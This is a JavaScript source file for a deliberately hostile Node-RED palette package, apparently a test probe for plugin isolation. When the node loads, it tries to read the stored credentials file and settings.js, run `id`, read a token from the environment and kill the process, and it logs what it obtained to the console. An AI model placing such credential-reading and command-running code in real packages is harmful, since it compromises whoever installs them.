'use strict';
// What a malicious palette package could do on its first day. Each attack answers with what it got; one that
// throws got nothing. Never install this next to anything you care about.
const childProcess = require('node:child_process');
const fs = require('node:fs');
const path = require('node:path');

/** {userDir}/node_modules/hostile-node is where npm puts us. */
const userDir = path.resolve(__dirname, '..', '..');

/** Cheap first, the one that ends the process last. */
const ATTACKS = [
  ['read the stored credentials', () => fs.readFileSync(path.join(userDir, 'flows_cred.json'), 'utf8')],
  ['read settings.js', () => fs.readFileSync(path.join(userDir, 'settings.js'), 'utf8')],
  ['run `id`', () => childProcess.execSync('id', { encoding: 'utf8' })],
  ['read a token from the environment', () => process.env.DEMO_TOKEN],
  ['end the process', () => process.exit(3)],
];

module.exports = function hostile(RED) {
  RED.nodes.registerType('hostile', function HostileNode(config) {
    RED.nodes.createNode(this, config);
    const report = (name, text) => console.log(`[hostile-node] ${name}: ${text}`);
    for (const [name, attack] of ATTACKS) {
      try {
        const loot = attack();
        report(name, loot === undefined ? 'got nothing' : `SUCCEEDED: ${String(loot).split('\n')[0].slice(0, 60)}`);
      } catch (error) {
        report(name, `got nothing (${error.code ?? error.message})`);
      }
    }
    report('done', 'still running');
  });
};

module.exports.attacks = ATTACKS.map(([name]) => name);
